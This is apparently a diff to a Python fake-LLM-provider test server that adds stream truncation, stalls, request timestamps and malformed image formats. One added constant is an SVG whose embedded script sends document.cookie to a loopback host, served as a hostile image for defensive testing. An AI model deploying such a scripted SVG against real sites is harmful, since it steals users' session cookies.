@@ -24,7 +24,9 @@ Usage semantics: ``reported_usage`` is always OpenAI-shaped: ``prompt_tokens`` i
 ``cached_tokens``. On the Anthropic wire that becomes ``input_tokens = prompt - cached`` and
 ``cache_read_input_tokens = cached``, which litellm adds back up into ``prompt_tokens``.
 
-Images: ``n`` PNGs (8x8, colour from prompt and index: see :func:`png_bytes`). As the real
+Images: ``n`` PNGs (8x8, colour from prompt and index: see :func:`png_bytes`), or another format
+with :func:`images_as` (JPEG, WebP, GIF, a truncated PNG, or an SVG passed off as an image). As
+the real
 API, DALL-E models answer with URLs unless ``response_format`` is "b64_json" (litellm 1.110
 only lets that field through via ``extra_body``); other models (gpt-image-*) always b64_json,
 with a ``usage`` block.
@@ -32,6 +34,15 @@ with a ``usage`` block.
 Streams use ``Transfer-Encoding: chunked`` (every SSE event is its own HTTP chunk, written
 straight to the socket), so ``cut`` is a real truncated body, not a clean EOF. Every response
 carries ``Connection: close``: one TCP connection per request keeps request counts exact.
+``cut_at_end`` sends everything but the stream's last event (``[DONE]``, ``message_stop``), so
+the text, the finish reason and the usage all arrive before the connection drops.
+
+Every :class:`Recorded` carries ``received_at`` (the request had fully arrived) and, once the
+server began its answer, ``answered_at`` (``time.monotonic()`` of this process: the fake runs in
+the test's process). The client cannot have read an answer before ``answered_at`` nor sent a
+request after its ``received_at``, so ``next.received_at - previous.answered_at`` is a lower bound
+on how long the client really waited between the two: enough to show that a retry came no sooner
+than the ``retry-after`` it was told.
 """
 
 from __future__ import annotations
@@ -54,7 +65,19 @@ from urllib.parse import urlsplit
 
 from PIL import Image
 
-BehaviourKind = Literal["ok", "error", "hang", "malformed", "cut", "slow_stream", "fewer_images"]
+BehaviourKind = Literal[
+    "ok",
+    "error",
+    "hang",
+    "malformed",
+    "cut",
+    "cut_at_end",
+    "stall",
+    "slow_stream",
+    "fewer_images",
+    "images_as",
+]
+ImageFormat = Literal["PNG", "JPEG", "WEBP", "GIF", "SVG", "TRUNCATED_PNG"]
 
 FILLER = ("lorem", "ipsum", "dolor", "sit", "amet", "consectetur", "adipiscing", "elit", "sed")
 
@@ -92,6 +115,7 @@ class Behaviour:
     after_chunks: int = 0
     delay_s: float = 0.0
     images: int = 0
+    image_formats: tuple[ImageFormat, ...] = ("PNG",)
 
 
 def ok(
@@ -134,6 +158,19 @@ def cut(after_chunks: int = 2, **reply: Any) -> Behaviour:
     return Behaviour("cut", after_chunks=after_chunks, **reply)
 
 
+def cut_at_end(quiet_s: float = 0.0, **reply: Any) -> Behaviour:
+    """Stream: send the whole reply, its finish reason and its usage, then (after ``quiet_s`` of
+    silence, the connection open) drop the connection before the stream's last event (OpenAI's
+    ``data: [DONE]``, Anthropic's ``message_stop``)."""
+    return Behaviour("cut_at_end", seconds=quiet_s, **reply)
+
+
+def stall(after_chunks: int, seconds: float, **reply: Any) -> Behaviour:
+    """Stream: send ``after_chunks`` content chunks, then go quiet for ``seconds`` (the connection
+    open, nothing sent), then finish the reply as ``ok(**reply)`` would."""
+    return Behaviour("stall", after_chunks=after_chunks, seconds=seconds, **reply)
+
+
 def slow_stream(delay_s: float, **reply: Any) -> Behaviour:
     """A normal reply, but sleep ``delay_s`` between stream events."""
     return Behaviour("slow_stream", delay_s=delay_s, **reply)
@@ -142,6 +179,14 @@ def slow_stream(delay_s: float, **reply: Any) -> Behaviour:
 def fewer_images(k: int) -> Behaviour:
     """Image generation returning only ``k`` images whatever ``n`` was asked."""
     return Behaviour("fewer_images", images=k)
+
+
+def images_as(*image_formats: ImageFormat) -> Behaviour:
+    """Image generation answering with images in these formats, image ``i`` in
+    ``image_formats[i % len(image_formats)]`` (as ``b64_json``, or from the file URL), whatever
+    was asked. "SVG" is a vector drawing carrying a script, which a provider gone wrong might send
+    where a raster image is expected; "TRUNCATED_PNG" the first half of a PNG."""
+    return Behaviour("images_as", image_formats=image_formats or ("PNG",))
 
 
 @dataclass(frozen=True)
@@ -154,6 +199,9 @@ class Recorded:
     ``stream_options.include_usage``. ``images_returned`` is set for image generations.
     ``finished`` is set once the handler is done with the request; ``client_gone`` if a write
     failed because the client had closed the connection (e.g. it stopped reading a stream).
+    ``received_at``, ``answered_at`` and ``finished_at`` are ``time.monotonic()`` when the request
+    had been read, when the first byte of the answer was about to be written, and when the handler
+    was done (None until then); ``received_wall`` is ``time.time()`` on arrival.
     """
 
     path: str
@@ -165,6 +213,24 @@ class Recorded:
     images_returned: int | None = None
     finished: threading.Event = field(default_factory=threading.Event, compare=False, repr=False)
     client_gone: threading.Event = field(default_factory=threading.Event, compare=False, repr=False)
+    received_at: float = field(default_factory=time.monotonic, compare=False)
+    received_wall: float = field(default_factory=time.time, compare=False)
+    _stamps: dict[str, float] = field(default_factory=dict, compare=False, repr=False)
+
+    @property
+    def answered_at(self) -> float | None:
+        return self._stamps.get("answered")
+
+    @property
+    def finished_at(self) -> float | None:
+        return self._stamps.get("finished")
+
+    def _answer(self) -> None:
+        self._stamps.setdefault("answered", time.monotonic())
+
+    def _finish(self) -> None:
+        self._stamps.setdefault("finished", time.monotonic())
+        self.finished.set()
 
 
 @dataclass(frozen=True)
@@ -236,15 +302,37 @@ def _deltas(words: list[str]) -> list[str]:
 
 def png_bytes(prompt: str, index: int = 0, size: int = 8) -> bytes:
     """A small solid-colour PNG whose colour derives from the prompt and the image index."""
+    return image_bytes(prompt, index, "PNG", size)
+
+
+SVG = (
+    '<svg xmlns="http://www.w3.org/2000/svg" width="8" height="8">'
+    '<script>fetch("http://127.0.0.1:9/?stolen="+document.cookie)</script>'
+    '<rect width="8" height="8" fill="#c00"/></svg>'
+)
+
+
+def image_bytes(
+    prompt: str, index: int = 0, image_format: ImageFormat = "PNG", size: int = 8
+) -> bytes:
+    """A small solid-colour image in ``image_format`` whose colour derives from the prompt and the
+    image index; "SVG" is the same scripted drawing whatever the prompt."""
+    if image_format == "SVG":
+        return SVG.encode()
+    if image_format == "TRUNCATED_PNG":
+        whole = image_bytes(prompt, index, "PNG", size)
+        return whole[: len(whole) // 2]
     digest = hashlib.sha256(f"{prompt}\0{index}".encode()).digest()
     buf = io.BytesIO()
-    Image.new("RGB", (size, size), (digest[0], digest[1], digest[2])).save(buf, format="PNG")
+    colour = (digest[0], digest[1], digest[2])
+    Image.new("RGB", (size, size), colour).save(buf, format=image_format)
     return buf.getvalue()
 
 
 class _Handler(BaseHTTPRequestHandler):
     protocol_version = "HTTP/1.1"
     server: _Server
+    _rec: Recorded | None = None
 
     def setup(self) -> None:
         super().setup()
@@ -285,10 +373,11 @@ class _Handler(BaseHTTPRequestHandler):
         }.get(route)
         if api is None:
             rec = provider._record(path, self.command, headers, body, "none")
+            self._rec = rec
             try:
                 self._serve_static(path)
             finally:
-                rec.finished.set()
+                rec._finish()
             return
 
         behaviour = provider._next_behaviour()
@@ -296,7 +385,15 @@ class _Handler(BaseHTTPRequestHandler):
         stream = bool(body.get("stream")) and api != "images"
         reported: dict[str, int] | None = None
         images: int | None = None
-        if behaviour.kind in ("ok", "hang", "slow_stream", "fewer_images"):
+        if behaviour.kind in (
+            "ok",
+            "hang",
+            "slow_stream",
+            "stall",
+            "fewer_images",
+            "images_as",
+            "cut_at_end",
+        ):
             if api == "images":
                 n = int(body.get("n") or 1)
                 images = behaviour.images if behaviour.kind == "fewer_images" else n
@@ -304,6 +401,7 @@ class _Handler(BaseHTTPRequestHandler):
                 assert reply is not None
                 reported = reply.usage
         rec = provider._record(path, self.command, headers, body, behaviour.kind, reported, images)
+        self._rec = rec
         try:
             if behaviour.kind == "hang" and not provider._sleep(behaviour.seconds):
                 return
@@ -326,7 +424,7 @@ class _Handler(BaseHTTPRequestHandler):
         except _ClientGone:
             rec.client_gone.set()
         finally:
-            rec.finished.set()
+            rec._finish()
 
     # --- low-level writing ----------------------------------------------------------------
 
@@ -338,6 +436,8 @@ class _Handler(BaseHTTPRequestHandler):
             raise _ClientGone from exc
 
     def _start(self, status: int, content_type: str, extra: dict[str, str] | None = None) -> None:
+        if self._rec is not None:
+            self._rec._answer()
         self.send_response(status)
         self.send_header("Content-Type", content_type)
         self.send_header("Connection", "close")
@@ -465,7 +565,8 @@ class _Handler(BaseHTTPRequestHandler):
         as_url = model.startswith("dall-e") and body.get("response_format", "url") == "url"
         data: list[dict[str, Any]] = []
         for i in range(count):
-            png = png_bytes(prompt, i)
+            formats = behaviour.image_formats
+            png = image_bytes(prompt, i, formats[i % len(formats)])
             if as_url:
                 data.append({"url": provider._store_png(png), "revised_prompt": prompt})
             else:
@@ -525,6 +626,8 @@ class _Handler(BaseHTTPRequestHandler):
             if api == "anthropic"
             else _openai_events(body, reply, provider._next_id())
         )
+        if behaviour.kind == "cut_at_end":
+            events = events[:-1]
         self._begin_chunked("text/event-stream")
         sent_content = 0
         for is_content, event in events:
@@ -534,8 +637,18 @@ class _Handler(BaseHTTPRequestHandler):
             if behaviour.delay_s and not provider._sleep(behaviour.delay_s):
                 self._drop()
                 return
+            stalls = (
+                behaviour.kind == "stall" and is_content and sent_content == behaviour.after_chunks
+            )
+            if stalls and not provider._sleep(behaviour.seconds):
+                self._drop()
+                return
             self._chunk(event)
             sent_content += is_content
+        if behaviour.kind == "cut_at_end":
+            provider._sleep(behaviour.seconds)
+            self._drop()
+            return
         self._end_chunked()
 
 
